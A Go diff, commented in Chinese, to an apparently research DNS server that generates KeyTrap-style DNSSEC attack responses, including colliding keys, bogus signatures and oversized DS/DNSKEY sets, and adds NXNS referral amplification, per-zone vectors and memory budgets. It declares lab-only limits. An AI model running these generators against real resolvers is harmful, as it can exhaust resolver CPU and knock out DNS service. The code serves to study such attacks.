@@ -1,12 +1,15 @@
 package main
 
 import (
+	"context"
 	"encoding/base64"
+	"encoding/json"
+	"flag"
 	"fmt"
 	"log"
-	"math/rand"
 	"net"
 	"os"
+	"reflect"
 	"sort"
 	"strconv"
 	"strings"
@@ -19,10 +22,17 @@ import (
 )
 
 var ServerIP = net.IPv4(10, 10, 1, 4)
+
+// NXNS 攻击向量的安全限制：仅向实验网络内的解析器回复放大转介，受害区域须位于实验区域之内
+var LabPrefixes = []string{"10.10.0.0/16"}
+var NXNSVictims = []string{"victim.test"}
 var IsNameCompression = false
 var IsDNSSEC = true
 var InitTime = time.Now().UTC().Unix()
 
+// 动态填充 RR 集合时使用的字节预算，为回复中的其余记录预留部分空间
+var RRSetBudget = 62000
+
 var conf = xdns.ServerConfig{
 	IP:   net.IPv4(10, 10, 1, 4),
 	Port: 53,
@@ -35,6 +45,9 @@ var conf = xdns.ServerConfig{
 
 	EnableTCP:    false,
 	TCPThreshold: 1200,
+
+	// 动态数量的攻击向量至多为单个回复计入 64 MB，超出时回复 SERVFAIL
+	ResponseMemoryLimit: 64 << 20,
 }
 
 var SOARDATA = &dns.DNSRDATASOA{
@@ -47,6 +60,12 @@ var SOARDATA = &dns.DNSRDATASOA{
 	Minimum: 86400,
 }
 
+// 按区域绑定的测试向量，优先于 ExperiVec
+// 零值的攻击向量即良性区域，其中的名称得到正常签名的回复
+var ZoneVecs = map[string]AttackVector{
+	"benign.test": {},
+}
+
 // 测试向量
 var ExperiVec = AttackVector{
 	// KeyTrap
@@ -68,6 +87,8 @@ var ExperiVec = AttackVector{
 	CNAMEChainNum: 0,
 	// ReferrerTrap
 	NSRRNum: 0,
+	// NXNS
+	NXNSFanout: 0,
 
 	// NSECTrap
 	IsNSEC:    true,
@@ -99,6 +120,56 @@ type KeyTrapResponser struct {
 	ResponserLogger *log.Logger
 	DNSSECManager   KeyTrapManager
 	AttackVector    AttackVector
+	// NXNS 攻击向量使用的转介生成器，其持有安全限制
+	NXNS *xdns.NXNSGenerator
+
+	// 保护攻击向量，使得场景执行器能够在实验过程中替换攻击向量
+	vecMu sync.RWMutex
+}
+
+// SetAttackVector 替换攻击向量，会等待正在生成的回复完成
+func (r *KeyTrapResponser) SetAttackVector(vec AttackVector) {
+	r.vecMu.Lock()
+	defer r.vecMu.Unlock()
+	r.AttackVector = vec
+	r.DNSSECManager.AttackVec = vec
+}
+
+// SetZoneVector 将攻击向量绑定至指定区域及其子域，会等待正在生成的回复完成
+func (r *KeyTrapResponser) SetZoneVector(zone string, vec AttackVector) {
+	r.vecMu.Lock()
+	defer r.vecMu.Unlock()
+	if r.DNSSECManager.ZoneVecs == nil {
+		r.DNSSECManager.ZoneVecs = make(map[string]AttackVector)
+	}
+	if len(vec.RandomString) != vec.TXTRDataSize {
+		vec.RandomString = getRandomString(vec.TXTRDataSize)
+	}
+	r.DNSSECManager.ZoneVecs[strings.TrimSuffix(strings.ToLower(zone), ".")] = vec
+	// 绑定了攻击向量的名称即为区域
+	if r.DNSSECManager.ZoneCuts == nil {
+		r.DNSSECManager.ZoneCuts = xdns.NewZoneCuts()
+	}
+	r.DNSSECManager.ZoneCuts.Add(zone)
+}
+
+// ApplyScenario 将场景阶段的参数覆盖至基准攻击向量，并替换当前的攻击向量
+// 参数名称即 AttackVector 的字段名，如 "CollidedDSNum"。
+func (r *KeyTrapResponser) ApplyScenario(base AttackVector, phase string, params map[string]interface{}) error {
+	data, err := json.Marshal(params)
+	if err != nil {
+		return err
+	}
+	vec := base
+	if err := json.Unmarshal(data, &vec); err != nil {
+		return fmt.Errorf("invalid parameters of phase %s: %v", phase, err)
+	}
+	if vec.TXTRDataSize != base.TXTRDataSize {
+		vec.RandomString = getRandomString(vec.TXTRDataSize)
+	}
+	r.SetAttackVector(vec)
+	r.ResponserLogger.Printf("Applied phase %s: %s", phase, data)
+	return nil
 }
 
 // 攻击向量
@@ -153,6 +224,9 @@ type AttackVector struct {
 	// NS Amplification
 	NSRRNum int // Resource Record Numer in RRSet
 
+	// NXNS Amplification
+	NXNSFanout int // NS Record Number pointing at Victims in each Referral
+
 	// NSECTrap
 	IsNSEC    bool
 	NSECRRNum int
@@ -166,8 +240,82 @@ type KeyTrapManager struct {
 	// 在初始化 DNSSEC Responser 时需要为其手动添加信任锚点
 	DNSSECMap sync.Map
 
-	// KeyTrap攻击向量
+	// KeyTrap攻击向量，未绑定至任何区域的名称使用该向量
 	AttackVec AttackVector
+	// 区域后缀与其攻击向量的映射，名称使用最长匹配区域的攻击向量，
+	// 使得同一服务器能够同时提供良性区域及参数各异的攻击区域
+	ZoneVecs map[string]AttackVector
+
+	// 区域切割数据库，决定每个 RRset 的签名区域，为 nil 时使用所有者名称的父域
+	ZoneCuts *xdns.ZoneCuts
+	// 其每个直接子域均被委派为独立区域的区域，如 "test"，
+	// 这些子域由名称推断，无需逐一记录于 ZoneCuts，使得查询不会改变区域切割数据库
+	DelegatingZones []string
+}
+
+// SignerOf 返回 RRset 的签名区域：区域切割处的 DS 由父区域签名，其余 RRset 由包含其所有者名称的最近区域签名，
+// 区域切割数据库中没有包含其所有者名称的区域时，使用所有者名称的父域
+func (m *KeyTrapManager) SignerOf(owner string, rrType dns.DNSType) string {
+	if m.ZoneCuts != nil {
+		if signer, ok := m.ZoneCuts.Signer(owner, rrType); ok {
+			return m.delegatedSigner(signer, owner, rrType)
+		}
+	}
+	return dns.GetUpperDomainName(&owner)
+}
+
+// delegatedSigner 若签名区域为 DelegatingZones 之一，返回所有者名称所在的、被委派的直接子域，
+// 子域顶点的 DS 仍由签名区域签名
+func (m *KeyTrapManager) delegatedSigner(signer, owner string, rrType dns.DNSType) string {
+	for _, zone := range m.DelegatingZones {
+		if !dns.EqualDomainName(signer, zone) || dns.EqualDomainName(owner, zone) || !dns.IsSubDomain(owner, zone) {
+			continue
+		}
+		rest := strings.TrimSuffix(strings.TrimSuffix(strings.ToLower(owner), "."), "."+zone)
+		child := rest[strings.LastIndexByte(rest, '.')+1:] + "." + zone
+		if rrType == dns.DNSRRTypeDS && dns.EqualDomainName(owner, child) {
+			return signer
+		}
+		return child
+	}
+	return signer
+}
+
+// VectorFor 返回指定名称所属区域的攻击向量
+// 名称按最长后缀匹配 ZoneVecs 中的区域，均不匹配时返回 AttackVec。
+func (m *KeyTrapManager) VectorFor(name string) AttackVector {
+	vec, matched := m.AttackVec, ""
+	for zone, zVec := range m.ZoneVecs {
+		if dns.IsSubDomain(name, zone) && len(zone) > len(matched) {
+			vec, matched = zVec, zone
+		}
+	}
+	return vec
+}
+
+// traceVector 将攻击向量中非零的数值及布尔参数记录为上下文中当前 span 的属性，
+// 属性名为 "retrap.vector." 加字段名，如 "retrap.vector.NSRRNum"，未启用追踪时不做任何事
+func traceVector(ctx context.Context, vec AttackVector) {
+	span := xdns.SpanFromContext(ctx)
+	if span == nil {
+		return
+	}
+	v := reflect.ValueOf(vec)
+	for i := 0; i < v.NumField(); i++ {
+		field := v.Field(i)
+		if field.IsZero() {
+			continue
+		}
+		key := "retrap.vector." + v.Type().Field(i).Name
+		switch field.Kind() {
+		case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
+			span.SetAttribute(key, field.Int())
+		case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
+			span.SetAttribute(key, int64(field.Uint()))
+		case reflect.Bool:
+			span.SetAttribute(key, field.Bool())
+		}
+	}
 }
 
 // DNSSEC 材料
@@ -195,27 +343,20 @@ type DNSSECMaterial struct {
 // 返回值为：
 //   - []dns.DNSResourceRecord，签名后的区域(Answer, Authority, Addition)信息
 func (m *KeyTrapManager) SignSection(section []dns.DNSResourceRecord) []dns.DNSResourceRecord {
-	rMap := make(map[string][]dns.DNSResourceRecord)
-	for _, rr := range section {
-		if rr.Type == dns.DNSRRTypeRRSIG {
-			continue
-		}
-		rid := rr.Name.DomainName + rr.Type.String() + rr.Class.String()
-		rMap[rid] = append(rMap[rid], rr)
-	}
-	for _, rrset := range rMap {
+	for _, rrset := range xdns.GroupRRSets(section) {
+		vec := m.VectorFor(rrset[0].Name.DomainName)
 		// SigJam攻击向量：CollidedSigNum
 		// 生成 错误RRSIG 记录
-		uName := dns.GetUpperDomainName(&rrset[0].Name.DomainName)
+		uName := m.SignerOf(rrset[0].Name.DomainName, rrset[0].Type)
 		dMat := m.GetDNSSECMaterial(uName)
 
-		if len(strings.Split(rrset[0].Name.DomainName, ".")) == 3 && rrset[0].Name.DomainName[0:1] == "w" {
-			for i := 0; i < m.AttackVec.CollidedSigNum+m.AttackVec.CollidedSigForRR; i++ {
+		if strings.Count(rrset[0].Name.DomainName, ".") == 2 && rrset[0].Name.DomainName[0:1] == "w" {
+			for i := 0; i < vec.CollidedSigNum+vec.CollidedSigForRR; i++ {
 				wRRSIG := xperi.GenerateRandomRRRRSIG(
 					rrset,
 					m.DNSSECConf.Algo,
-					uint32(InitTime+86400),
-					uint32(InitTime),
+					m.DNSSECConf.SignatureExpiration(time.Now()),
+					m.DNSSECConf.SignatureInception(time.Now()),
 					uint16(dMat.ZSKTag),
 					uName,
 				)
@@ -225,13 +366,13 @@ func (m *KeyTrapManager) SignSection(section []dns.DNSResourceRecord) []dns.DNSR
 
 		// TagTrap攻击向量: RandomTagSigNum
 		// 生成 随机Tag的 RRSIG 记录
-		for i := 0; i < m.AttackVec.RandomTagSigNum; i++ {
+		for i := 0; i < vec.RandomTagSigNum; i++ {
 			wRRSIG := xperi.GenerateRandomRRRRSIG(
 				rrset,
 				m.DNSSECConf.Algo,
-				uint32(InitTime+86400),
-				uint32(InitTime),
-				uint16(rand.Intn(65535)),
+				m.DNSSECConf.SignatureExpiration(time.Now()),
+				m.DNSSECConf.SignatureInception(time.Now()),
+				uint16(xperi.RandomIntn(65535)),
 				uName,
 			)
 			section = append(section, wRRSIG)
@@ -239,12 +380,12 @@ func (m *KeyTrapManager) SignSection(section []dns.DNSResourceRecord) []dns.DNSR
 
 		if len(dMat.OtherZSK) != 0 {
 
-			for i := 0; i < m.AttackVec.ValidZSKNum; i++ {
+			for i := 0; i < vec.ValidZSKNum; i++ {
 				wRRSIG := xperi.GenerateRandomRRRRSIG(
 					rrset,
 					m.DNSSECConf.Algo,
-					uint32(InitTime+86400),
-					uint32(InitTime),
+					m.DNSSECConf.SignatureExpiration(time.Now()),
+					m.DNSSECConf.SignatureInception(time.Now()),
 					uint16(dMat.OtherZSKTag[i]),
 					uName,
 				)
@@ -252,14 +393,14 @@ func (m *KeyTrapManager) SignSection(section []dns.DNSResourceRecord) []dns.DNSR
 			}
 		}
 
-		for i := 1; i <= m.AttackVec.Invalid_SIG_ZSK_PairNum-m.AttackVec.SIGPairDecreaseFactor*len(strings.Split(rrset[0].Name.DomainName, ".")); i++ {
+		for i := 1; i <= vec.Invalid_SIG_ZSK_PairNum-vec.SIGPairDecreaseFactor*(strings.Count(rrset[0].Name.DomainName, ".")+1); i++ {
 			keytag := dMat.ZSKTag - i
-			for j := 0; j < m.AttackVec.InvalidCollidedSigNum; j++ {
+			for j := 0; j < vec.InvalidCollidedSigNum; j++ {
 				wRRSIG := xperi.GenerateRandomRRRRSIG(
 					rrset,
 					m.DNSSECConf.Algo,
-					uint32(InitTime+86400),
-					uint32(InitTime),
+					m.DNSSECConf.SignatureExpiration(time.Now()),
+					m.DNSSECConf.SignatureInception(time.Now()),
 					uint16(keytag),
 					uName,
 				)
@@ -277,19 +418,7 @@ func (m *KeyTrapManager) SignSection(section []dns.DNSResourceRecord) []dns.DNSR
 // 其接受参数为
 //   - rrset []dns.DNSResourceRecord，RR 集合
 func (m *KeyTrapManager) SignRRSet(rrset []dns.DNSResourceRecord) dns.DNSResourceRecord {
-	var uName string
-	if len(strings.Split(rrset[0].Name.DomainName, ".")) == 2 {
-		if rrset[0].Type == dns.DNSRRTypeNSEC ||
-			rrset[0].Type == dns.DNSRRTypeNS ||
-			rrset[0].Type == dns.DNSRRTypeNSEC3 {
-			uName = rrset[0].Name.DomainName
-		} else {
-			uName = dns.GetUpperDomainName(&rrset[0].Name.DomainName)
-		}
-	} else {
-		uName = dns.GetUpperDomainName(&rrset[0].Name.DomainName)
-	}
-
+	uName := m.SignerOf(rrset[0].Name.DomainName, rrset[0].Type)
 	dMat := m.GetDNSSECMaterial(uName)
 
 	sort.Sort(dns.ByCanonicalOrder(rrset))
@@ -297,8 +426,8 @@ func (m *KeyTrapManager) SignRRSet(rrset []dns.DNSResourceRecord) dns.DNSResourc
 	sig := xperi.GenerateRRRRSIG(
 		rrset,
 		dMat.ZSKRecord.RData.(*dns.DNSRDATADNSKEY).Algorithm,
-		uint32(InitTime+86400),
-		uint32(InitTime),
+		m.DNSSECConf.SignatureExpiration(time.Now()),
+		m.DNSSECConf.SignatureInception(time.Now()),
 		uint16(dMat.ZSKTag),
 		uName,
 		dMat.KSKPriv,
@@ -306,19 +435,32 @@ func (m *KeyTrapManager) SignRRSet(rrset []dns.DNSResourceRecord) dns.DNSResourc
 	return sig
 }
 
+// countSignatures 向上下文中的开销计量计入签名区域所需的签名次数：
+// SignSection 以 SignRRSet 为每个 RRset 实际签名一次，其余 RRSIG 均为随机生成，不计入
+func countSignatures(ctx context.Context, sections ...[]dns.DNSResourceRecord) {
+	for _, section := range sections {
+		xdns.CountSignatures(ctx, len(xdns.GroupRRSets(section)))
+	}
+}
+
 // EnableDNSSEC 为指定的 DNS 查询启用 DNSSEC
 // 其接受参数为：
+//   - ctx context.Context，回复构造的上下文，其中可能携带内存预算
 //   - qry dns.DNSMessage，查询信息
 //   - resp *dns.DNSMessage，指向指定回复信息的指针
-func (m *KeyTrapManager) EnableDNSSEC(qry dns.DNSMessage, resp *dns.DNSMessage) {
+//
+// 返回值为：
+//   - error，超出内存预算时返回 xdns.ErrMemoryBudgetExceeded
+func (m *KeyTrapManager) EnableDNSSEC(ctx context.Context, qry dns.DNSMessage, resp *dns.DNSMessage) error {
 	qType := qry.Question[0].Type
+	vec := m.VectorFor(strings.ToLower(qry.Question[0].Name.DomainName))
 
 	// ANY攻击向量
 	if qType == dns.DNSQTypeANY {
 		// 生成任意类型的 RR 集合
 		anyset := []dns.DNSResourceRecord{}
 		var sType = 4096
-		for i := 0; i < m.AttackVec.ANYRRSetNum; i++ {
+		for i := 0; i < vec.ANYRRSetNum; i++ {
 			rr := dns.DNSResourceRecord{
 				Name:  qry.Question[0].Name,
 				Type:  dns.DNSType(sType + i),
@@ -332,13 +474,19 @@ func (m *KeyTrapManager) EnableDNSSEC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		resp.Answer = append(resp.Answer, anyset...)
 	}
 
+	// 签名及信任链的构造在 "sign" span 中进行
+	ctx, span := xdns.StartSpan(ctx, "sign", xdns.SpanKindInternal)
+	defer span.Finish()
+	countSignatures(ctx, resp.Answer, resp.Authority, resp.Additional)
 	// 签名回答部分
 	resp.Answer = m.SignSection(resp.Answer)
 	// 签名权威部分
 	resp.Authority = m.SignSection(resp.Authority)
 	// 签名附加部分
 	resp.Additional = m.SignSection(resp.Additional)
-	m.EstablishToC(qry, resp)
+	err := m.EstablishToC(ctx, qry, resp)
+	span.SetError(err)
+	return err
 }
 
 // CreateDNSSECMaterial 生成指定区域的 DNSSEC 材料
@@ -348,9 +496,10 @@ func (m *KeyTrapManager) EnableDNSSEC(qry dns.DNSMessage, resp *dns.DNSMessage)
 // 返回值为：
 //   - DNSSECMaterial，生成的 DNSSEC 材料
 func (m *KeyTrapManager) CreateDNSSECMaterial(zName string) DNSSECMaterial {
+	vec := m.VectorFor(zName)
 	zskRecord, zskPriv := xperi.GenerateRRDNSKEY(zName, m.DNSSECConf.Algo, dns.DNSKEYFlagZoneKey)
 	zskTag := xperi.CalculateKeyTag(*zskRecord.RData.(*dns.DNSRDATADNSKEY))
-	for zskTag < uint16(m.AttackVec.CollidedZSKNum) {
+	for zskTag < uint16(vec.CollidedZSKNum) {
 		zskRecord, zskPriv = xperi.GenerateRRDNSKEY(zName, m.DNSSECConf.Algo, dns.DNSKEYFlagZoneKey)
 		zskTag = xperi.CalculateKeyTag(*zskRecord.RData.(*dns.DNSRDATADNSKEY))
 	}
@@ -358,7 +507,7 @@ func (m *KeyTrapManager) CreateDNSSECMaterial(zName string) DNSSECMaterial {
 	autreZSK := []dns.DNSResourceRecord{}
 	autreZSKTag := []int{}
 	// SigPairTrap攻击向量：ValidZSKNum
-	for i := 0; i <= m.AttackVec.ValidZSKNum; i++ {
+	for i := 0; i <= vec.ValidZSKNum; i++ {
 		zzz, _ := xperi.GenerateRRDNSKEY(zName, m.DNSSECConf.Algo, dns.DNSKEYFlagZoneKey)
 		autreZSK = append(autreZSK, zzz)
 		autreZSKTag = append(autreZSKTag, int(xperi.CalculateKeyTag(*zzz.RData.(*dns.DNSRDATADNSKEY))))
@@ -396,14 +545,17 @@ func (m *KeyTrapManager) GetDNSSECMaterial(zName string) DNSSECMaterial {
 // EstablishToC 根据查询自动添加 DNSKEY，DS，RRSIG 记录
 // 自动完成信任链（Trust of Chain）的建立。
 // 其接受参数为：
+//   - ctx context.Context，回复构造的上下文，动态数量的记录会先向其中的内存预算申请
 //   - qry dns.DNSMessage，查询信息
-//   - m.DNSSECConf DNSSECConfig，DNSSEC 配置
-//   - dMap map[string]DNSSECMaterial，区域名与其相应 DNSSEC 材料的映射
 //   - resp *dns.DNSMessage，回复信息
-func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage) error {
+//
+// 返回值为：
+//   - error，超出内存预算时返回 xdns.ErrMemoryBudgetExceeded
+func (m *KeyTrapManager) EstablishToC(ctx context.Context, qry dns.DNSMessage, resp *dns.DNSMessage) error {
 	// 提取查询类型和查询名称
 	qType := qry.Question[0].Type
 	qName := strings.ToLower(qry.Question[0].Name.DomainName)
+	vec := m.VectorFor(qName)
 	dMat := m.GetDNSSECMaterial(qName)
 
 	if qType == dns.DNSRRTypeDNSKEY {
@@ -412,35 +564,24 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		// 生成 错误ZSK DNSKEY 记录
 		rrset := []dns.DNSResourceRecord{}
 		if qName != "test" {
-			for i := 0; i < m.AttackVec.CollidedZSKNum; i++ {
-				wZSK := xperi.GenerateCollidedDNSKEY(
-					*dMat.ZSKRecord.RData.(*dns.DNSRDATADNSKEY),
-				)
-				rr := dns.DNSResourceRecord{
-					Name:  *dns.NewDNSName(qName),
-					Type:  dns.DNSRRTypeDNSKEY,
-					Class: dns.DNSClassIN,
-					TTL:   86400,
-					RDLen: uint16(wZSK.Size()),
-					RData: &wZSK,
-				}
-				rrset = append(rrset, rr)
-				resp.Answer = append(resp.Answer, rr)
-			}
+			// 冲突密钥按区域缓存，不必在每次回复时重新生成
+			wZSKs := xperi.GenerateCollidedDNSKEYSet(dMat.ZSKRecord, vec.CollidedZSKNum)
+			rrset = append(rrset, wZSKs...)
+			resp.Answer = append(resp.Answer, wZSKs...)
 		}
 
 		// SigPairTrap攻击向量：ValidZSKNum
 		if len(dMat.OtherZSK) != 0 {
-			for i := 0; i < m.AttackVec.ValidZSKNum; i++ {
+			for i := 0; i < vec.ValidZSKNum; i++ {
 				rrset = append(rrset, dMat.OtherZSK[i])
 				resp.Answer = append(resp.Answer, dMat.OtherZSK[i])
 			}
 		}
 
 		// SigPairTrap攻击向量：Invalid_SIG_ZSK_PairNum
-		for i := 1; i <= m.AttackVec.Invalid_SIG_ZSK_PairNum-m.AttackVec.SIGPairDecreaseFactor*len(strings.Split(qName, ".")); i++ {
+		for i := 1; i <= vec.Invalid_SIG_ZSK_PairNum-vec.SIGPairDecreaseFactor*(strings.Count(qName, ".")+1); i++ {
 			// 生成 错误ZSK DNSKEY 记录
-			for j := 0; j < m.AttackVec.InvalidCollidedZSKNum; j++ {
+			for j := 0; j < vec.InvalidCollidedZSKNum; j++ {
 				wZSK := xperi.GenerateDNSKEYWithTag(
 					*dMat.ZSKRecord.RData.(*dns.DNSRDATADNSKEY),
 					i,
@@ -461,47 +602,21 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		if qName != "test" {
 			// HashTrap攻击向量: CollidedKSKNum
 			// 生成 错误KSK DNSKEY 记录
-			if m.AttackVec.DynamicCollidedKSKNum {
+			if vec.DynamicCollidedKSKNum {
 				// DNSKEY RR Size = QNAME + 10 + RDATA(4 + PublicKeySize)
-				// DNSKEY RRSet Size = DS RR Size * CollidedKSKNum
-				// DNSKEY RRSet Size < 65535 Bytes
-				// (QNAME + 10 + 4 + PublicKeySize) * CollideKSKNum < 65535
-				// CollidedKSKNum < 65535 / (QNAME + 10 + 4 + PublicKeySize)
-				qNameSize := dns.GetDomainNameWireLen(&qName)
-				collidedKSKNum := 62000 / (qNameSize + 10 + 4 + dns.PubilcKeySizeOf(m.DNSSECConf.Algo))
-				for i := 0; i < collidedKSKNum; i++ {
-					wKSK := xperi.GenerateCollidedDNSKEY(
-						*dMat.KSKRecord.RData.(*dns.DNSRDATADNSKEY),
-					)
-					rr := dns.DNSResourceRecord{
-						Name:  *dns.NewDNSName(qName),
-						Type:  dns.DNSRRTypeDNSKEY,
-						Class: dns.DNSClassIN,
-						TTL:   86400,
-						RDLen: uint16(wKSK.Size()),
-						RData: &wKSK,
-					}
-
-					rrset = append(rrset, rr)
-					resp.Answer = append(resp.Answer, rr)
+				// DNSKEY RRSet Size < 65535 Bytes，预留部分空间给其余记录
+				rrSize := xdns.RecordSize(qName, 4+m.DNSSECConf.KeyParams.PublicKeySize(m.DNSSECConf.Algo))
+				collidedKSKNum := xdns.NewSizePlanner(RRSetBudget, nil).Fit(rrSize)
+				if err := xdns.ChargeMemory(ctx, collidedKSKNum*rrSize); err != nil {
+					return err
 				}
+				wKSKs := xperi.GenerateCollidedDNSKEYSet(dMat.KSKRecord, collidedKSKNum)
+				rrset = append(rrset, wKSKs...)
+				resp.Answer = append(resp.Answer, wKSKs...)
 			} else {
-				for i := 0; i < m.AttackVec.CollidedKSKNum; i++ {
-					wKSK := xperi.GenerateCollidedDNSKEY(
-						*dMat.KSKRecord.RData.(*dns.DNSRDATADNSKEY),
-					)
-					rr := dns.DNSResourceRecord{
-						Name:  *dns.NewDNSName(qName),
-						Type:  dns.DNSRRTypeDNSKEY,
-						Class: dns.DNSClassIN,
-						TTL:   86400,
-						RDLen: uint16(wKSK.Size()),
-						RData: &wKSK,
-					}
-
-					rrset = append(rrset, rr)
-					resp.Answer = append(resp.Answer, rr)
-				}
+				wKSKs := xperi.GenerateCollidedDNSKEYSet(dMat.KSKRecord, vec.CollidedKSKNum)
+				rrset = append(rrset, wKSKs...)
+				resp.Answer = append(resp.Answer, wKSKs...)
 			}
 		}
 
@@ -510,14 +625,14 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 
 		// HashTrap v2 攻击向量: Invalid_DS_KSK_PairNum
 		if qName != "test" {
-			for i := 1; i <= m.AttackVec.Invalid_DS_KSK_PairNum-
-				m.AttackVec.DSPairDecreaseFactor*len(strings.Split(qName, ".")); i++ {
+			for i := 1; i <= vec.Invalid_DS_KSK_PairNum-
+				vec.DSPairDecreaseFactor*(strings.Count(qName, ".")+1); i++ {
 				// HashTrap v2攻击向量: InvalidCollidedKSKNum
 				// 生成 错误KSK DNSKEY 记录
 				th := 12
 				tm := 0
 				rKSK, _ := xperi.GenerateRDATADNSKEY(m.DNSSECConf.Algo, dns.DNSKEYFlagSecureEntryPoint)
-				for j := 1; j <= m.AttackVec.InvalidCollidedKSKNum; j++ {
+				for j := 1; j <= vec.InvalidCollidedKSKNum; j++ {
 					tm = tm + 1
 					if tm > th {
 						tm = 0
@@ -544,12 +659,12 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 
 		// TagTrap攻击向量: RandomDNSKEYNum
 		// 生成 随机Tag的 DNSKEY 记录
-		for i := 0; i < m.AttackVec.RandomDNSKEYNum; i++ {
+		for i := 0; i < vec.RandomDNSKEYNum; i++ {
 			rkey := xperi.GenerateDNSKEYWithTag(
 				*dMat.KSKRecord.RData.(*dns.DNSRDATADNSKEY),
 				i+1,
 			)
-			rkey.Flags = m.AttackVec.RandomDNSKEYFlag
+			rkey.Flags = vec.RandomDNSKEYFlag
 			rr := dns.DNSResourceRecord{
 				Name:  *dns.NewDNSName(qName),
 				Type:  dns.DNSRRTypeDNSKEY,
@@ -568,23 +683,24 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		sigSet := []dns.DNSResourceRecord{}
 		// SigJam攻击向量：CollidedSigNum
 		// 生成 错误RRSIG 记录
-		for i := 0; i < m.AttackVec.CollidedSigNum; i++ {
+		for i := 0; i < vec.CollidedSigNum; i++ {
 			wRRSIG := xperi.GenerateRandomRRRRSIG(
 				rrset,
 				m.DNSSECConf.Algo,
-				uint32(InitTime+86400),
-				uint32(InitTime),
+				m.DNSSECConf.SignatureExpiration(time.Now()),
+				m.DNSSECConf.SignatureInception(time.Now()),
 				uint16(dMat.KSKTag),
 				qName,
 			)
 			sigSet = append(sigSet, wRRSIG)
 		}
 
+		xdns.CountSignatures(ctx, 1)
 		sig := xperi.GenerateRRRRSIG(
 			rrset,
 			dMat.KSKRecord.RData.(*dns.DNSRDATADNSKEY).Algorithm,
-			uint32(InitTime+86400),
-			uint32(InitTime),
+			m.DNSSECConf.SignatureExpiration(time.Now()),
+			m.DNSSECConf.SignatureInception(time.Now()),
 			uint16(dMat.KSKTag),
 			qName,
 			dMat.KSKPriv,
@@ -600,11 +716,11 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		rrset := []dns.DNSResourceRecord{}
 
 		// HashTrap v2 攻击
-		for i := 1; i <= m.AttackVec.Invalid_DS_KSK_PairNum-m.AttackVec.DSPairDecreaseFactor*len(strings.Split(qName, ".")); i++ {
+		for i := 1; i <= vec.Invalid_DS_KSK_PairNum-vec.DSPairDecreaseFactor*(strings.Count(qName, ".")+1); i++ {
 			kskTag := dMat.KSKTag - i
 			// HashTrap 攻击向量：InvalidCollidedDSNum
 			// 生成 错误DS 记录
-			for i := 0; i < m.AttackVec.InvalidCollidedDSNum; i++ {
+			for i := 0; i < vec.InvalidCollidedDSNum; i++ {
 				wDS := xperi.GenerateRandomRRDS(qName,
 					kskTag,
 					m.DNSSECConf.Algo,
@@ -615,21 +731,24 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 		}
 
 		// TagTrap攻击向量: RandomTagDSNum:
-		if m.AttackVec.DynamicRandomDSNum {
-			qNameSize := dns.GetDomainNameWireLen(&qName)
-			randomDSNum := 62000 / (qNameSize + 10 + 4 + dns.DigestSizeOf(m.DNSSECConf.Type))
+		if vec.DynamicRandomDSNum {
+			rrSize := xdns.RecordSize(qName, 4+dns.DigestSizeOf(m.DNSSECConf.Type))
+			randomDSNum := xdns.NewSizePlanner(RRSetBudget, nil).Fit(rrSize)
+			if err := xdns.ChargeMemory(ctx, randomDSNum*rrSize); err != nil {
+				return err
+			}
 			for i := 1; i <= randomDSNum; i++ {
 				wDS := xperi.GenerateRandomRRDS(qName,
-					rand.Intn(65535),
+					xperi.RandomIntn(65535),
 					m.DNSSECConf.Algo,
 					m.DNSSECConf.Type)
 				rrset = append(rrset, wDS)
 				resp.Answer = append(resp.Answer, wDS)
 			}
 		} else {
-			for i := 1; i <= m.AttackVec.RandomTagDSNum; i++ {
+			for i := 1; i <= vec.RandomTagDSNum; i++ {
 				wDS := xperi.GenerateRandomRRDS(qName,
-					rand.Intn(65535),
+					xperi.RandomIntn(65535),
 					m.DNSSECConf.Algo,
 					m.DNSSECConf.Type)
 				rrset = append(rrset, wDS)
@@ -639,22 +758,22 @@ func (m *KeyTrapManager) EstablishToC(qry dns.DNSMessage, resp *dns.DNSMessage)
 
 		// HashTrap 攻击向量：CollidedDSNum
 		// 生成 错误DS 记录
-		if m.AttackVec.DynamicCollidedDSNum {
-			// DS RR Size = QNAME + 10 + RDATA(52)
-			// DS RRSet Size = DS RR Size * CollidedDSNum
-			// DS RRSet Size <= 65535 Bytes
-			// (QNAME + 10 + 52) * CollidedDSNum <= 65535
-			// CollidedDSNum <= 65535 / (QNAME + 10 + 4 + DigestSize)
-			qNameSize := dns.GetDomainNameWireLen(&qName)
-			collidedDSNum := 62000 / (qNameSize + 10 + 4 + dns.DigestSizeOf(m.DNSSECConf.Type))
-			fmt.Printf("CollidedDSNum: %d\n, DS Size: %d\n", collidedDSNum, qNameSize+10+4+dns.DigestSizeOf(m.DNSSECConf.Type))
+		if vec.DynamicCollidedDSNum {
+			// DS RR Size = QNAME + 10 + RDATA(4 + DigestSize)
+			// DS RRSet Size <= 65535 Bytes，预留部分空间给其余记录
+			rrSize := xdns.RecordSize(qName, 4+dns.DigestSizeOf(m.DNSSECConf.Type))
+			collidedDSNum := xdns.NewSizePlanner(RRSetBudget, nil).Fit(rrSize)
+			fmt.Printf("CollidedDSNum: %d\n, DS Size: %d\n", collidedDSNum, rrSize)
+			if err := xdns.ChargeMemory(ctx, collidedDSNum*rrSize); err != nil {
+				return err
+			}
 			for i := 0; i < collidedDSNum; i++ {
 				wDS := xperi.GenerateRandomRRDS(qName, dMat.KSKTag, m.DNSSECConf.Algo, m.DNSSECConf.Type)
 				rrset = append(rrset, wDS)
 				resp.Answer = append(resp.Answer, wDS)
 			}
 		} else {
-			for i := 0; i < m.AttackVec.CollidedDSNum; i++ {
+			for i := 0; i < vec.CollidedDSNum; i++ {
